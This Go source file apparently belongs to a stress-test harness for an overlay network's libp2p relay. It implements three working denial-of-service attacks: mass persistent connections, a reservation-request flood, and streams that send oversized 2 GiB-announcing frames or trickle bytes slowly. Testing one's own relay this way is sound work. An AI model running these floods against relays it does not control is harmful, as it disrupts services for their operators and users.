package main

// Attacks by stock go-libp2p hosts, many per process: hosts that connect
// and stay, a reservation flood, and hosts that open the overlay's own
// protocols and send oversized or trickled frames.

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	libp2pproto "github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/client"
	pbv2 "github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/pb"
	"github.com/libp2p/go-libp2p/p2p/transport/tcp"
	"github.com/libp2p/go-libp2p/p2p/transport/websocket"

	"github.com/overlay-net/overlay/protocol"
)

// fleet is many stock hosts of this process, each its own identity.
type fleet struct {
	mu        sync.Mutex
	hosts     []host.Host
	connected atomic.Int64
	failed    atomic.Int64
	errs      map[string]int
}

// stockHost is a plain go-libp2p host over TCP and WebSocket, light on
// resources: no listen address, no resource manager limits, no relay
// client.
func stockHost() (host.Host, error) {
	return libp2p.New(libp2p.Transport(tcp.NewTCPTransport), libp2p.Transport(websocket.New),
		libp2p.NoListenAddrs, libp2p.DisableRelay(),
		libp2p.ResourceManager(&network.NullResourceManager{}), libp2p.DisableMetrics())
}

// connectFleet starts n hosts, 100 at a time (an attacker does not wait),
// each connected to the relay at one of ais in turn (TCP, WebSocket), and
// calls each(h) on those that connected (in its own goroutine, stopped by
// ctx). It returns once every host has tried.
func connectFleet(ctx context.Context, ais []peer.AddrInfo, n int, each func(context.Context, host.Host)) (*fleet, *sync.WaitGroup) {
	f := &fleet{errs: map[string]int{}}
	var workers sync.WaitGroup
	sem := make(chan struct{}, 100)
	var tries sync.WaitGroup
	for i := range n {
		if ctx.Err() != nil {
			break
		}
		ai := ais[i%len(ais)]
		sem <- struct{}{}
		tries.Add(1)
		go func() {
			defer func() { <-sem; tries.Done() }()
			h, err := stockHost()
			if err != nil {
				f.note(fmt.Errorf("new host: %w", err))
				return
			}
			f.mu.Lock()
			f.hosts = append(f.hosts, h)
			f.mu.Unlock()
			cctx, cancel := context.WithTimeout(ctx, 15*time.Second)
			err = h.Connect(cctx, ai)
			cancel()
			if err != nil {
				f.note(err)
				return
			}
			f.connected.Add(1)
			if each != nil {
				workers.Add(1)
				go func() {
					defer workers.Done()
					each(ctx, h)
				}()
			}
		}()
	}
	tries.Wait()
	return f, &workers
}

func (f *fleet) note(err error) {
	f.failed.Add(1)
	f.mu.Lock()
	f.errs[shortErr(err)]++
	f.mu.Unlock()
}

// stillConnected counts hosts connected to p now.
func (f *fleet) stillConnected(p peer.ID) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := 0
	for _, h := range f.hosts {
		if h.Network().Connectedness(p) == network.Connected {
			n++
		}
	}
	return n
}

func (f *fleet) close() {
	f.mu.Lock()
	hs := f.hosts
	f.hosts = nil
	f.mu.Unlock()
	var wg sync.WaitGroup
	for _, h := range hs {
		wg.Add(1)
		go func() { defer wg.Done(); h.Close() }()
	}
	wg.Wait()
}

func (f *fleet) topErr() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	best, n := "", 0
	for e, c := range f.errs {
		if c > n {
			best, n = e, c
		}
	}
	if best == "" {
		return ""
	}
	return fmt.Sprintf(" (most: %dx %s)", n, best)
}

// relayInfo returns the relay's TCP and WebSocket addresses, to be dialed
// one each.
func relayInfo(t target) ([]peer.AddrInfo, error) {
	var out []peer.AddrInfo
	for _, a := range []string{t.TCPMA, t.WSMA} {
		ai, err := peer.AddrInfoFromString(a)
		if err != nil {
			return nil, fmt.Errorf("relay address %q: %w", a, err)
		}
		out = append(out, *ai)
	}
	return out, nil
}

// attackStockHosts connects n stock hosts that stay connected.
func attackStockHosts(ctx context.Context, t target, n int) (*running, error) {
	ais, err := relayInfo(t)
	if err != nil {
		return nil, err
	}
	ai := ais[0] // for the relay's ID, and reconnects over TCP
	f, _ := connectFleet(ctx, ais, n, nil)
	return &running{stop: func() string {
		d := fmt.Sprintf("%d of %d connected, %d still connected at the end, %d failed%s",
			f.connected.Load(), n, f.stillConnected(ai.ID), f.failed.Load(), f.topErr())
		f.close()
		return d
	}}, nil
}

// attackReservations has n stock hosts ask the relay for a reservation,
// each again every second until stopped (reconnecting when cut off).
func attackReservations(ctx context.Context, t target, n int) (*running, error) {
	ais, err := relayInfo(t)
	if err != nil {
		return nil, err
	}
	ai := ais[0] // for the relay's ID, and reconnects over TCP
	ctx, cancel := context.WithCancel(ctx)
	var granted, denied, other, attempts atomic.Int64
	var first sync.WaitGroup
	first.Add(n)
	f, workers := connectFleet(ctx, ais, n, func(ctx context.Context, h host.Host) {
		once := sync.OnceFunc(first.Done)
		defer once()
		for ctx.Err() == nil {
			rctx, rcancel := context.WithTimeout(ctx, 10*time.Second)
			_, err := client.Reserve(rctx, h, ai)
			rcancel()
			if ctx.Err() != nil {
				return
			}
			attempts.Add(1)
			var re client.ReservationError
			switch {
			case err == nil:
				granted.Add(1)
			case errors.As(err, &re) && re.Status == pbv2.Status_PERMISSION_DENIED:
				denied.Add(1)
			default:
				other.Add(1)
			}
			once()
			select {
			case <-ctx.Done():
			case <-time.After(time.Second):
			}
		}
	})
	// Hosts that never connected make no attempt: count them as done.
	for range n - int(f.connected.Load()) {
		first.Done()
	}
	waitGroupCtx(ctx, &first)
	return &running{stop: func() string {
		cancel()
		workers.Wait()
		d := fmt.Sprintf("%d identities connected of %d, %d failed%s; %d reservation requests: %d granted, %d denied, %d other errors",
			f.connected.Load(), n, f.failed.Load(), f.topErr(), attempts.Load(), granted.Load(), denied.Load(), other.Load())
		f.close()
		return d
	}}, nil
}

// attackStreams has n stock hosts open the overlay's handshake and message
// protocols: each sends a frame announcing 2 GiB on a fresh stream of each
// protocol every second, and keeps one stream of each trickling a hello
// frame a byte a second.
func attackStreams(ctx context.Context, t target, n int) (*running, error) {
	ais, err := relayInfo(t)
	if err != nil {
		return nil, err
	}
	ai := ais[0] // for the relay's ID, and reconnects over TCP
	ctx, cancel := context.WithCancel(ctx)
	var opened, openFailed, oversized, trickled, reconnects atomic.Int64
	protos := []string{protocol.HandshakeID, protocol.MessageID}
	oversizedFrame := make([]byte, 5+32<<10)
	oversizedFrame[0] = 0x01
	binary.BigEndian.PutUint32(oversizedFrame[1:5], 1<<31)
	trickleFrame := make([]byte, 5+1024)
	trickleFrame[0] = 0x01
	binary.BigEndian.PutUint32(trickleFrame[1:5], 1024)
	var streamWG sync.WaitGroup
	f, workers := connectFleet(ctx, ais, n, func(ctx context.Context, h host.Host) {
		open := func(p string) network.Stream {
			if h.Network().Connectedness(ai.ID) != network.Connected {
				reconnects.Add(1)
				cctx, c := context.WithTimeout(ctx, 5*time.Second)
				h.Connect(cctx, ai)
				c()
			}
			sctx, c := context.WithTimeout(ctx, 5*time.Second)
			defer c()
			s, err := h.NewStream(sctx, ai.ID, libp2pproto.ID(p))
			if err != nil {
				openFailed.Add(1)
				return nil
			}
			opened.Add(1)
			return s
		}
		for _, p := range protos {
			streamWG.Add(1)
			go func() { // one trickling stream per protocol, again when cut
				defer streamWG.Done()
				for ctx.Err() == nil {
					s := open(p)
					if s == nil {
						pauseCtx(ctx, time.Second)
						continue
					}
					for i := 0; ctx.Err() == nil; i++ {
						s.SetWriteDeadline(time.Now().Add(2 * time.Second))
						if _, err := s.Write(trickleFrame[i%len(trickleFrame) : i%len(trickleFrame)+1]); err != nil {
							break
						}
						trickled.Add(1)
						pauseCtx(ctx, time.Second)
					}
					s.Reset()
				}
			}()
		}
		for ctx.Err() == nil {
			for _, p := range protos {
				if s := open(p); s != nil {
					s.SetWriteDeadline(time.Now().Add(2 * time.Second))
					if _, err := s.Write(oversizedFrame); err == nil {
						oversized.Add(1)
					}
					s.Reset()
				}
			}
			pauseCtx(ctx, time.Second)
		}
	})
	return &running{stop: func() string {
		cancel()
		workers.Wait()
		streamWG.Wait()
		d := fmt.Sprintf("%d hosts; %d streams opened, %d refused; %d oversized frames written, %d bytes trickled; %d reconnects",
			f.connected.Load(), opened.Load(), openFailed.Load(), oversized.Load(), trickled.Load(), reconnects.Load())
		f.close()
		return d
	}}, nil
}

func pauseCtx(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// waitGroupCtx waits for wg or ctx, whichever ends first.
func waitGroupCtx(ctx context.Context, wg *sync.WaitGroup) {
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	select {
	case <-done:
	case <-ctx.Done():
	}
}
